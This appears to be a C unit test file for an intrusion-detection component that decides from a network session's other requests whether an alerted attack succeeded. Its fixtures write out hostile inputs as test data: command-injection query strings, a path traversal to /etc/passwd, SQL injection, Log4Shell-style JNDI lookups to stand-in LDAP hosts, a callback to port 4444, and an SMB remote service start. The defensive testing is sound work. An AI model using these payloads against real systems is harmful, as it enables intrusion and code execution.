/* SPDX-License-Identifier: Apache-2.0 */
/* What the other questions of an alert's session tell of it, and what they must not. */
#include "packet/outcome.h"

#include "exchange_util.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>

#include <cmocka.h>

#define ATTACKER "198.51.100.7"
#define VICTIM   "10.1.2.3"
#define CODE     "203.0.113.9"
#define STEPS    3

#define ID_OUT "uid=33(www-data) gid=33(www-data) groups=33(www-data)"

struct step {
    const char *target, *head, *host;
    int status;
    const char *answer;
    double at;
};

/* clang-format off */
static const struct row {
    const char *what;
    struct step step[STEPS]; /* each asked at its second */
    unsigned alert;          /* the step that it fires on */
    uint8_t success;
    int mark, when;          /* that must be there; mark -1: nothing of another question */
} row[] = {
    { "an earlier attack of the session succeeded",
      { { "/p?h=;id", 0, 0, 200, ID_OUT, 1 }, { "/p?h=|ls", 0, 0, 200, "ok", 2 } },
      1, YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, YG_WHEN_EARLIER },
    { "a later one did",
      { { "/p?h=|ls", 0, 0, 200, "ok", 1 }, { "/p?h=;id", 0, 0, 200, ID_OUT, 2 } },
      0, YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, YG_WHEN_LATER },
    { "this one was turned down, another got through",
      { { "/p?h=;id", 0, 0, 403, "no", 1 }, { "/p?h=|id", 0, 0, 200, ID_OUT, 2 } },
      0, YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, YG_WHEN_LATER },
    { "its own evidence comes first",
      { { "/p?h=;id", 0, 0, 200, ID_OUT, 1 }, { "/p?h=|id", 0, 0, 200, ID_OUT, 2 } },
      1, YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, YG_WHEN_OWN },
    { "an attack of another kind",
      { { "/p?f=../../../etc/passwd", 0, 0, 200, "root:x:0:0:root:/root:/bin/sh\n", 1 },
        { "/p?id=1' or '1'='1", 0, 0, 200, "item", 2 } },
      1, YG_SUCCEEDED, YG_M_FILE_CONTENT, YG_WHEN_EARLIER },
    { "the actor behind the proxy is the same",
      { { "/p?h=;id", "X-Forwarded-For: 192.0.2.1\r\n", 0, 200, ID_OUT, 1 },
        { "/p?h=|ls", "x-forwarded-for:192.0.2.1\r\n", 0, 200, "ok", 2 } },
      1, YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, YG_WHEN_EARLIER },
    { "the host is the same in other letters",
      { { "/p?h=;id", 0, "A.example", 200, ID_OUT, 1 },
        { "/p?h=|ls", 0, "a.EXAMPLE", 200, "ok", 2 } },
      1, YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, YG_WHEN_EARLIER },
    /* no leak */
    { "both were turned down",
      { { "/p?h=;id", 0, 0, 403, "no", 1 }, { "/p?h=|id", 0, 0, 403, "no", 2 } },
      1, YG_FAILED, -1, 0 },
    { "turned down; another attack was answered normally",
      { { "/p?h=;id", 0, 0, 200, "ok", 1 }, { "/p?h=|id", 0, 0, 403, "no", 2 } },
      1, YG_FAILED, -1, 0 },
    { "turned down; a harmless page was answered normally",
      { { "/index.html", 0, 0, 200, "ok", 1 }, { "/p?h=|id", 0, 0, 403, "no", 2 } },
      1, YG_FAILED, -1, 0 },
    { "turned down; a harmless page holds what looks like output",
      { { "/blog", 0, 0, 200, ID_OUT, 1 }, { "/p?h=|id", 0, 0, 403, "no", 2 } },
      1, YG_FAILED, -1, 0 },
    { "turned down; a query reached the database",
      { { "/p?id=1' or 1=1", 0, 0, 500, "ORA-00933: SQL command not properly ended", 1 },
        { "/p?h=|id", 0, 0, 403, "no", 2 } },
      1, YG_FAILED, -1, 0 },
    { "turned down; another actor behind the same proxy succeeded",
      { { "/p?h=;id", "X-Forwarded-For: 192.0.2.1\r\n", 0, 200, ID_OUT, 1 },
        { "/p?h=|id", "X-Forwarded-For: 192.0.2.9\r\n", 0, 403, "no", 2 } },
      1, YG_FAILED, -1, 0 },
    { "turned down; the success was on another host behind the same proxy",
      { { "/p?h=;id", 0, "a.example", 200, ID_OUT, 1 },
        { "/p?h=|id", 0, "b.example", 403, "no", 2 } },
      1, YG_FAILED, -1, 0 },
    { "turned down; the success came past the window",
      { { "/p?h=|id", 0, 0, 403, "no", 1 }, { "/p?h=;id", 0, 0, 200, ID_OUT, 700 } },
      0, YG_FAILED, -1, 0 },
    { "an attack in between is none of the other actor's",
      { { "/p?h=;id", "X-Real-IP: 192.0.2.1\r\n", 0, 403, "no", 1 },
        { "/p?h=;id", "X-Real-IP: 192.0.2.2\r\n", 0, 200, ID_OUT, 2 },
        { "/p?h=|ls", "X-Real-IP: 192.0.2.1\r\n", 0, 403, "no", 3 } },
      2, YG_FAILED, -1, 0 },
};
/* clang-format on */

static void play(struct scene *s, const struct step *step)
{
    struct yg_talk *t = scene_talk(s, ATTACKER, VICTIM, 80, step[0].at);

    for (unsigned i = 0; i < STEPS && step[i].target; i++) {
        const struct http_case c = { .target = step[i].target,
                                     .head = step[i].head,
                                     .status = step[i].status,
                                     .answer = step[i].answer };
        struct yg_exchange *x = scene_http(s, t, &c, step[i].at, 0.1);
        if (step[i].host)
            x->host = yg_str_of(step[i].host);
    }
}

static bool holds(const struct yg_outcome *o, int kind, int when)
{
    for (unsigned i = 0; i < o->marks; i++)
        if (o->mark[i].kind == kind && o->mark[i].when == when)
            return true;
    return false;
}

static bool has_others(const struct yg_outcome *o)
{
    for (unsigned i = 0; i < o->marks; i++)
        if (o->mark[i].when != YG_WHEN_OWN)
            return true;
    return false;
}

static void questions_of_one_conversation(void **state)
{
    unsigned wrong = 0;

    (void)state;
    for (size_t i = 0; i < YG_ARRAY_LEN(row); i++) {
        struct scene *s = scene_new();
        struct yg_outcome o;
        play(s, row[i].step);
        yg_outcome_of(
            &(struct yg_outcome_ask){ .talk = s->list,
                                      .talks = s->talks,
                                      .alert_ns =
                                          at_s(row[i].step[row[i].alert].at + 0.05) },
            &s->arena, &o);
        bool marked =
            row[i].mark < 0 ? !has_others(&o) : holds(&o, row[i].mark, row[i].when);
        if (o.success != row[i].success || !marked) {
            wrong++;
            print_message("# wrong: %s: %s\n", row[i].what, yg_success_name(o.success));
            for (unsigned m = 0; m < o.marks; m++)
                print_message("#   %s %s\n", yg_mark_info[o.mark[m].kind].name,
                              yg_mark_when_name(o.mark[m].when));
        }
        /* what is said to be granted is shown */
        for (unsigned m = 0; m < o.marks; m++)
            if (yg_mark_info[o.mark[m].kind].class >= YG_OUT_GRANTED)
                assert_true(o.mark[m].shows.n > 0 && o.class >= YG_OUT_GRANTED);
        scene_free(s);
    }
    assert_int_equal(wrong, 0);
}

/* A service is started; later alerts of the same SMB session are about its pipe. */
static void remote_execution(void **state)
{
    (void)state;
    for (int granted = 0; granted < 2; granted++) {
        struct scene *s = scene_new();
        struct yg_talk *t = scene_talk(s, "10.1.2.9", VICTIM, 445, 1);
        struct yg_outcome o;
        for (int i = 0; i < 3; i++) {
            struct yg_exchange *x = scene_ask(t, YG_APP_SMB, 1 + i);
            x->flags = i == 1 ? YG_XF_EXEC : YG_XF_ADMIN;
            x->verb = i == 1 ? YG_STR("svcctl.StartServiceW") : YG_STR("TREE_CONNECT");
            x->answer = i == 1 && !granted ? YG_ANSWER_REFUSED : YG_ANSWER_OK;
            x->answer_ns = x->ask_ns + 1000;
        }
        for (int i = 0; i < 3; i++) {
            static const int when[] = { YG_WHEN_LATER, YG_WHEN_OWN, YG_WHEN_EARLIER };
            yg_outcome_of(&(struct yg_outcome_ask){ .talk = s->list,
                                                    .talks = 1,
                                                    .alert_ns = at_s(1.5 + i) },
                          &s->arena, &o);
            print_message("# alert on step %d, %s\n", i, granted ? "granted" : "refused");
            assert_int_equal(holds(&o, YG_M_SERVICE_RUN, when[i]), granted);
            assert_int_equal(o.success, granted  ? YG_SUCCEEDED
                                        : i == 1 ? YG_FAILED
                                                 : YG_UNDECIDED);
        }
        scene_free(s);
    }
}

/* Code ran after the first look-up; the second alert of the session is about the same. */
static void what_followed_an_earlier_question(void **state)
{
    static const struct step ask[STEPS] = {
        { "/?x=${jndi:ldap://" CODE ":1389/a}", 0, 0, 200, "ok", 1 },
        { "/?x=${jndi:ldap://192.0.2.77:1389/b}", 0, 0, 200, "ok", 5 },
    };
    (void)state;
    for (int ran = 0; ran < 2; ran++) {
        struct scene *s = scene_new();
        struct yg_outcome o;
        play(s, ask);
        struct yg_talk *t = scene_talk(s, VICTIM, CODE, 1389, 2);
        scene_bytes(s, t, YG_TO_SERVER, YG_STR("0\x0c\x02\x01"), 2);
        scene_bytes(s, t, YG_TO_CLIENT, YG_STR("javaSerializedData"), 2.1);
        if (ran) {
            struct yg_talk *n = scene_talk(s, VICTIM, "192.0.2.55", 4444, 3);
            scene_bytes(s, n, YG_TO_SERVER, YG_STR("x"), 3);
        }
        yg_outcome_of(&(struct yg_outcome_ask){ .talk = s->list,
                                                .talks = s->talks,
                                                .alert_ns = at_s(5.05) },
                      &s->arena, &o);
        assert_int_equal(o.success, ran ? YG_SUCCEEDED : YG_UNDECIDED);
        assert_int_equal(holds(&o, YG_M_NEW_TRAFFIC, YG_WHEN_EARLIER), ran);
        assert_false(holds(&o, YG_M_CALLBACK, YG_WHEN_EARLIER)); /* proves nothing */
        scene_free(s);
    }
}

/* An alert that fires on a harmless question of a session tells of all of it. */
static void a_question_that_tries_nothing(void **state)
{
    static const struct step ask[STEPS] = {
        { "/p?h=;id", 0, 0, 200, ID_OUT, 1 },
        { "/index.html", 0, 0, 200, "ok", 2 },
    };
    struct scene *s = scene_new();
    struct yg_outcome o;

    (void)state;
    play(s, ask);
    yg_outcome_of(
        &(struct yg_outcome_ask){ .talk = s->list, .talks = 1, .alert_ns = at_s(2.05) },
        &s->arena, &o);
    assert_int_equal(o.success, YG_SUCCEEDED);
    assert_true(holds(&o, YG_M_COMMAND_OUTPUT, YG_WHEN_EARLIER));
    s->talk[0].exchange[0].host = YG_STR("b.example"); /* a proxy's connection */
    yg_outcome_of(
        &(struct yg_outcome_ask){ .talk = s->list, .talks = 1, .alert_ns = at_s(2.05) },
        &s->arena, &o);
    assert_int_equal(o.success, YG_UNDECIDED);
    assert_false(has_others(&o));
    yg_outcome_of(&(struct yg_outcome_ask){ .talk = s->list, .talks = 1 }, &s->arena,
                  &o); /* no time: of the conversation */
    assert_int_equal(o.success, YG_SUCCEEDED);
    assert_false(has_others(&o));
    scene_free(s);
}

/* A client that fetches a program is a victim itself; a client that attacks is none. What
 * shows the one says nothing of the other, though one connection had both. */
static void two_victims(void **state)
{
    static const struct {
        const char *what;
        const char *program, *type; /* asked first, answered with a program */
        const char *attack;
        int status;
        const char *answer;
        unsigned alert;
        uint8_t success;
    } pair[] = {
        { "attack turned down, disguised program", "/logo.png", "image/png", "/p?h=|id",
          403, "no", 1, YG_FAILED },
        { "attack turned down, program by a question that tries something",
          "/logo.png?h=|id", "image/png", "/p?h=|id", 403, "no", 1, YG_FAILED },
        { "plain program, attack succeeded", "/setup.exe", "application/x-msdownload",
          "/p?h=|id", 200, ID_OUT, 0, YG_UNDECIDED },
    };
    char exe[256] = "MZ";

    (void)state;
    exe[0x3c] = 0x40;
    memcpy(exe + 0x40, "PE\0\0\x4c\x01", 6);
    for (size_t i = 0; i < YG_ARRAY_LEN(pair); i++) {
        struct scene *s = scene_new();
        struct yg_talk *t = scene_talk(s, ATTACKER, VICTIM, 80, 1);
        const struct http_case fetch = {
            .target = pair[i].program, .status = 200, .type = pair[i].type, .answer = ""
        };
        const struct http_case attack = { .target = pair[i].attack,
                                          .status = pair[i].status,
                                          .answer = pair[i].answer };
        struct yg_outcome o;
        scene_http(s, t, &fetch, 1, 0.1)->answer_body =
            (struct yg_str){ exe, sizeof(exe) };
        scene_http(s, t, &attack, 2, 0.1);
        yg_outcome_of(&(struct yg_outcome_ask){ .talk = s->list,
                                                .talks = 1,
                                                .alert_ns = at_s(1.05 + pair[i].alert) },
                      &s->arena, &o);
        print_message("# %s\n", pair[i].what);
        assert_false(has_others(&o));
        assert_int_equal(o.success, pair[i].success);
        scene_free(s);
    }
}

/* However much was found of its own, what proves has room. */
static void room_for_proof(void **state)
{
    struct yg_outcome o;

    (void)state;
    for (uint32_t n = 1; n < SCENE_EXCHANGES; n++) {
        struct scene *s = scene_new();
        struct yg_talk *t = scene_talk(s, ATTACKER, VICTIM, 80, 1);
        for (uint32_t i = 0; i <= n; i++) {
            const struct http_case c = { .target = "/p?h=;id",
                                         .status = i == n ? 200 : 403,
                                         .answer = i == n ? ID_OUT : "no" };
            scene_http(s, t, &c, 1 + i, 0.1);
        }
        yg_outcome_of(&(struct yg_outcome_ask){ .talk = s->list,
                                                .talks = 1,
                                                .alert_ns = at_s(1.05) },
                      &s->arena, &o);
        assert_int_equal(o.success, YG_SUCCEEDED);
        assert_true(holds(&o, YG_M_COMMAND_OUTPUT, YG_WHEN_LATER));
        assert_true(o.marks <= YG_MARKS_MAX);
        scene_free(s);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(questions_of_one_conversation),
        cmocka_unit_test(remote_execution),
        cmocka_unit_test(what_followed_an_earlier_question),
        cmocka_unit_test(a_question_that_tries_nothing),
        cmocka_unit_test(two_victims),
        cmocka_unit_test(room_for_proof),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
